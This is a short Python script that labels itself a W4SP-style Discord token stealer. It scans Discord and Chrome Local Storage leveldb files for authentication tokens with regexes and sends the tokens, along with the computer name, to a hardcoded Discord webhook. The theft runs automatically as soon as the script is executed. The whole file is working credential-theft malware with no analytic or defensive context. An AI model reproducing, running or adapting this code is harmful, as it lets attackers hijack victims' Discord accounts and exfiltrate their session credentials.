# technique: W4SP-style Discord token stealer — regex-scans Discord "Local Storage\leveldb" *.ldb/*.log for tokens and POSTs them to a webhook
import json
import os
import re
import urllib.request

_HOOK = "https://discord.com/api/webhooks/1102938475610293847/Zp0WmEv3Nq1TxS7bLkY2rF8uJcA5gHd"
_RX = [r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}", r"dQw4w9WgXcQ:[^\"]*"]


def _paths():
    roaming = os.getenv("APPDATA", "")
    local = os.getenv("LOCALAPPDATA", "")
    return [
        os.path.join(roaming, "discord", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordptb", "Local Storage", "leveldb"),
        os.path.join(local, "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
    ]


def _tokens():
    found = set()
    for p in _paths():
        if not os.path.isdir(p):
            continue
        for fn in os.listdir(p):
            if fn.endswith((".ldb", ".log")):
                with open(os.path.join(p, fn), "r", errors="ignore") as fh:
                    for line in fh:
                        for rx in _RX:
                            found.update(re.findall(rx, line))
    return found


def _send():
    body = json.dumps({"content": "\n".join(_tokens()) or "none", "username": os.getenv("COMPUTERNAME")}).encode()
    req = urllib.request.Request(_HOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req)


_send()
